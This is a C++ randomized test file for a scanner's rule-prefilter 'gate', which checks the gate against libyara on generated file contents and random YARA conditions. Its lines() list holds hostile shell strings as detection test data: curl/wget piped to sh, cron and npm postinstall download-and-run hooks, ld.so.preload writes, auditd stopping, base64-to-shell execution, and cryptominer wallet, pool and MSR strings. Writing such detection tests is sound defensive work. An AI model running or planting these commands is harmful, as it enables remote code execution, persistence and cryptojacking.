// What libyara finds, the gate lets through: over members put together at random
// from pieces of the rules' own strings.

#include <random>

#include "scan/gate_test.h"
#include "scan/literals.h"
#include "scan/pack_test.h"
#include "scan/rule_syntax.h"

namespace assay {
namespace {

class Maker {
 public:
  explicit Maker(unsigned seed) : random_(seed) {}

  std::size_t below(std::size_t end) { return random_() % end; }
  bool one_in(std::size_t n) { return below(n) == 0; }

  template <class T>
  const T& any(const std::vector<T>& of) {
    return of[below(of.size())];
  }

  /// Bytes that `string` may match, now and then spoiled.
  std::string piece(const StringSyntax& string) {
    std::string out = instance(string);
    if (string.wide && (!string.ascii || one_in(2))) out = wide(out);
    if (string.caseless && one_in(2)) swap_case(out);
    if (one_in(12)) swap_case(out);
    if (one_in(12)) out = wide(out);
    if (one_in(10) && !out.empty()) out.resize(below(out.size()));
    if (one_in(20) && !out.empty()) out[below(out.size())] ^= 1;
    return out;
  }

  std::string filler() {
    if (one_in(2)) return std::string(1, '\0');
    return std::string(below(40), one_in(2) ? ' ' : '\n');
  }

 private:
  std::string instance(const StringSyntax& string) {
    if (string.kind == StringSyntax::Kind::text) return string.body;
    std::string out;
    const bool is_hex = string.kind == StringSyntax::Kind::hex;
    if (is_hex) return filled(string.body);
    for (const std::vector<std::string>& group : regex_runs(string.body)) {
      out += any(group) + std::string(below(4), 'x');
    }
    return out;
  }

  /// Without jumps and alternatives; these become a byte or nothing.
  std::string filled(std::string_view hex) {
    std::string digits;
    int depth = 0;
    for (const char c : hex) {
      if (c == '[' || c == '(') ++depth;
      if (depth == 0 && c != ' ' && c != '\n')
        digits += c == '?' ? "0123456789abcdef"[below(16)] : c;
      if (c == ']' || c == ')') {
        --depth;
        digits += "ff";
      }
    }
    return bytes(digits);
  }

  void swap_case(std::string& text) {
    for (char& c : text) {
      const bool letter = (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z');
      if (letter && one_in(2)) c ^= 0x20;
    }
  }

  std::mt19937 random_;
};

/// Lines that regular expressions of the pack match.
std::vector<std::string> lines() {
  return {
      text_of("cu", "rl -s http://x/y | sudo ba") + "sh\n",
      text_of("wg", "et -qO- http://x/y | ") + "sh\n",
      text_of("* * * * * cu", "rl http://x | ") + "sh\n",
      text_of("echo x >", " /etc/ld.so") + ".preload\n",
      text_of("ExecStart=", "/tmp/x\n[Ser") + "vice]\n",
      text_of("systemctl stop ", "auditd\n"),
      text_of("chattr +i ", "/tmp/x cron\n"),
      text_of("chmod +x ", "/dev/shm/x\n"),
      text_of("\"postinstall\": \"cu", "rl http://x ") + "| sh\"",
      text_of("echo x | base64 ", "-d | ") + "sh\n",
      text_of("exec(base", "64.b64decode("),
      text_of("<script src='", "coinhive.min") + ".js",
      "-u " + kWallet,
      "\"user\": \"" + kWallet + "\"",
      kScheme + "pool.example:3333",
      text_of("0xC00110", "20 0xc00110") + text_of("21 0xC00110", "22 0xc001102B wr") + "msr"};
}

std::vector<std::string> heads() {
  return {"",
          elf("", kExec),
          elf("", kShared),
          elf("", kObject),
          elf("", kObject, 247),
          pe(""),
          "\x7f"
          "EL",
          "M",
          "#!/bin/sh\n",
          "#",
          "{\n",
          "[Unit]\n",
          std::string("\0asm", 4),
          "\xcf\xfa\xed\xfe",
          "text\n"};
}

const std::vector<std::string> kPaths = {"x",
                                         "a/x.sh",
                                         "x.PS1",
                                         "package.json",
                                         "DEBIAN/postinst",
                                         "x.py",
                                         "x.js",
                                         "x.html",
                                         "x.service",
                                         "x.md",
                                         "etc/cron.d/x",
                                         "x.bat",
                                         "config.json",
                                         "lib/x.so.1",
                                         "usr/lib/systemd/x",
                                         "x.yar",
                                         "x.exe",
                                         "x.ko"};

/// A member of pieces of one or two rules, and what plain libyara and the gate say.
struct Tally {
  std::size_t matched = 0;
  std::size_t passed = 0;
  std::size_t skipped = 0;
};

void try_one(Maker& make, BothWays& both, const std::vector<RuleSyntax>& rules, Tally& tally) {
  static const std::vector<std::string> kHeads = heads();
  static const std::vector<std::string> kLines = lines();
  std::string content = make.any(kHeads);
  for (std::size_t n = 1 + make.below(2); n > 0; --n) {
    for (const StringSyntax& string : make.any(rules).strings) {
      if (!make.one_in(4)) content += make.filler() + make.piece(string);
    }
  }
  while (make.one_in(3)) content += make.filler() + make.any(kLines);
  if (!make.one_in(3)) content += '\0';
  if (make.one_in(10)) content.resize(make.below(content.size() + 1));
  const Member member =
      member_at(make.any(kPaths), content.starts_with("#!") ? "script" : "data");
  CAPTURE(content);
  const std::size_t passed = both.candidates(member, content).size();
  tally.matched += both.matches(member, content).size();
  tally.passed += passed;
  tally.skipped += both.rules.rules().size() - passed;
}

TEST_CASE("over members made of the rules' own strings") {
  std::vector<RuleSyntax> rules;
  for (const RuleFile& file : built_in_rules().take()) {
    if (!file.name.ends_with(".yar")) continue;
    for (RuleSyntax& rule : parse_rules(file.text)) rules.push_back(std::move(rule));
  }
  Maker make(20261123);
  BothWays both(pack());
  Tally tally;
  for (int i = 0; i < 6000; ++i) try_one(make, both, rules, tally);
  MESSAGE("matched ", tally.matched, ", passed ", tally.passed, ", skipped ", tally.skipped);
  CHECK(tally.matched > 1000);
  CHECK(tally.skipped > tally.passed * 10);
}

/// Conditions out of every form the gate knows, nested at random.
class ConditionMaker {
 public:
  explicit ConditionMaker(Maker& make) : make_(make) {}

  std::string run() {
    std::string text = part();
    for (std::size_t n = make_.below(6); n > 0; --n) {
      switch (make_.below(4)) {
        case 0: text = "(" + text + ") and " + part(); break;
        case 1: text = part() + " or (" + text + ")"; break;
        case 2: text = "not (" + text + ")"; break;
        default: text = part() + " and not (" + text + ") or " + part(); break;
      }
    }
    return text + " or (filesize > 99999 and all of them)";
  }

 private:
  std::string part() {
    static const std::vector<std::string> kParts = {"$a",
                                                    "$b",
                                                    "$c",
                                                    "$d",
                                                    "not $a",
                                                    "#a > 1",
                                                    "#b == 0",
                                                    "#a < #b",
                                                    "$a at 2",
                                                    "$c in (0..20)",
                                                    "@a[1] < 10",
                                                    "@b[2] > 3",
                                                    "!c[1] == 4",
                                                    "any of them",
                                                    "2 of them",
                                                    "all of ($a, $b)",
                                                    "none of ($c, $d)",
                                                    "3 of ($a, $b, $c)",
                                                    "34% of them",
                                                    "any of ($a, $b) in (0..9)",
                                                    "uint16(0) == 0x6261",
                                                    "uint8(30) == 0x2e",
                                                    "uint32be(60) != 7",
                                                    "filesize > 40",
                                                    "filesize - 10 < 20",
                                                    "uint8(filesize) == 1",
                                                    "filename == \"x\"",
                                                    "filename iendswith \".SH\"",
                                                    "filetype contains \"a\"",
                                                    "for any of ($a, $b) : ($ at 0)",
                                                    "for all of them : (# < 2)",
                                                    "for any i in (1..#a) : (@a[i] < 8)",
                                                    "for all i in (1..#b) : (@b[i] > 5)",
                                                    "for 2 i in (0..4) : (uint8(i) == 0x2e)",
                                                    "defined @d[1]",
                                                    "filesize % 3 == 1",
                                                    "#a * 2 + 1 > 4",
                                                    "uint8(#a) == 0x61",
                                                    "filename matches /x/",
                                                    "true",
                                                    "false"};
    return make_.any(kParts);
  }

  Maker& make_;
};

TEST_CASE("over random conditions") {
  Maker make(7);
  ConditionMaker conditions(make);
  std::string text;
  for (int i = 0; i < 300; ++i) {
    text +=
        named_rule("r" + std::to_string(i),
                   "strings: $a = \"needle\" $b = /thr[aeiou]ad/ nocase $c = { 62 75 ?? 74 6F "
                   "6E 21 } $d = \"spool\" wide ascii condition: " +
                       conditions.run());
  }
  const RuleSet set = rule_set(text);
  CHECK(set.state().gate->always().empty());
  BothWays both(set);
  const std::vector<std::string> words = {"needle", "thread",     "THRead", "button!",
                                          "ton!",   "spool",      "..",     "ab",
                                          "needl",  wide("spool")};
  std::size_t skipped = 0;
  for (int i = 0; i < 300; ++i) {
    std::string content;
    while (!make.one_in(6)) content += make.any(words);
    const Member member = member_at(make.one_in(2) ? "x" : "x.sh");
    both.matches(member, content);
    skipped += set.rules().size() - both.candidates(member, content).size();
  }
  CHECK(skipped > 10'000);
}

}  // namespace
}  // namespace assay
